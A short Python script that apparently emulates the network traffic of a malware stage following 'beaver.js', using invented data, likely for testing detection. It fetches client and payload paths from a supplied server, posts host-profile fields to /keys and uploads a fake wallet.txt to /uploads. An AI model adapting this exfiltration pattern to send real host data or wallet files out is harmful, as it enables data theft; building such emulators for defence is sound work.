#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""What the Python stage after beaver.js says, with the requests library's own headers. All invented.

    ferret.py ADDRESS PORT
"""
import sys

import requests

server = "http://%s:%s" % tuple(sys.argv[1:3])
for path in ("/client/9/401", "/payload/9/401", "/brow/9/401"):
    requests.get(server + path, timeout=5).raise_for_status()
facts = {"ts": "1771999321000", "type": "9401", "hid": "dev-lnx-41", "ss": "sys_info", "cc": "{}"}
requests.post(server + "/keys", data=facts, timeout=5).raise_for_status()
files = {"multi_file": ("wallet.txt", b"invented words " * 60)}
requests.post(server + "/uploads", files=files, timeout=5).raise_for_status()
